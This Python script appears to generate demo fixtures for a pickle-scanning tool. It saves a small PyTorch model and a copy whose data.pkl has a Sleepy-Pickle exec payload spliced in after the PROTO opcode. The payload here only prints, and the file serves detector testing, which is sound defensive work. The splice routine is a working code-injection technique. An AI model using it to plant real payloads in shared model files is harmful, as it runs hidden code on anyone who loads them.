"""Writes the demo folder: a real PyTorch model saved by torch.save, and a copy with a Sleepy-Pickle payload
spliced into its data.pkl (the tensor records untouched, as in the published attack).

The payload is harmless (it only prints), and picklewall never runs it.
Usage: python3 demo/make_demo_models.py OUT_DIR
"""
import io
import sys
import zipfile
from pathlib import Path

import torch


class TinyClassifier(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.embed = torch.nn.Embedding(100, 16)
        self.hidden = torch.nn.Linear(16, 32)
        self.norm = torch.nn.LayerNorm(32)
        self.head = torch.nn.Linear(32, 3)

    def forward(self, tokens):
        return self.head(torch.relu(self.norm(self.hidden(self.embed(tokens).mean(1)))))


PAYLOAD = (
    "import builtins\n"
    "print('[sleepy pickle] this code would run inside torch.load, then the model loads as usual')\n"
)


def splice(data_pkl: bytes) -> bytes:
    """Inserts `exec(PAYLOAD)` and a POP right after PROTO: the load runs it, then rebuilds the model."""
    assert data_pkl[:1] == b"\x80"
    source = PAYLOAD.encode()
    call = (b"cbuiltins\nexec\n(X" + len(source).to_bytes(4, "little") + source + b"tR0")
    return data_pkl[:2] + call + data_pkl[2:]


def main(out_dir: str) -> None:
    out = Path(out_dir)
    (out / "benign").mkdir(parents=True, exist_ok=True)
    (out / "infected").mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)
    model = TinyClassifier()
    benign_path = out / "benign" / "pytorch_model.bin"
    torch.save(model.state_dict(), benign_path)

    source = zipfile.ZipFile(benign_path)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = splice(data)
            target.writestr(info, data)
    (out / "infected" / "pytorch_model.bin").write_bytes(buffer.getvalue())
    print(f"wrote {benign_path} and {out / 'infected' / 'pytorch_model.bin'} with torch {torch.__version__}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "demo/generated")
